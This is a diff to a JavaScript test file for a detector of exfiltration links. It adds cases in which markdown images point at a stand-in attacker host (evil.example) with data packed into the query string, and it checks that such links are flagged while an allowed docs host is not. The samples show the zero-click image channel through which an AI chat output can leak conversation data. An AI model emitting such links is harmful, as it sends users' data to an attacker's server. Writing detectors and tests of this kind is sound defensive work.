@@ -103,6 +103,12 @@ test('exfil links: URLs of any length (the zero-click channel carrying a whole c
     const ref = `![x][r]\n\n[r]: ${url}\n`;
     assert.equal(d.scan(ref, ctx).length, 2, 'reference use and definition');
   }
+  // A `<…>` destination may hold spaces (CommonMark renders it), however long.
+  for (const n of [10, 3000]) {
+    const markup = `![x](<https://evil.example/a b.png?d=${'w '.repeat(n)}>)`;
+    const text = `See ${markup} here.`;
+    assert.deepEqual(d.scan(text, ctx).map((f) => text.slice(f.start, f.end)), [markup]);
+  }
   // An allowed host stays allowed, however long its URL.
   assert.deepEqual(d.scan(`![a](https://docs.example.com/i.png?q=${'z'.repeat(5000)})`, ctx), []);
 });
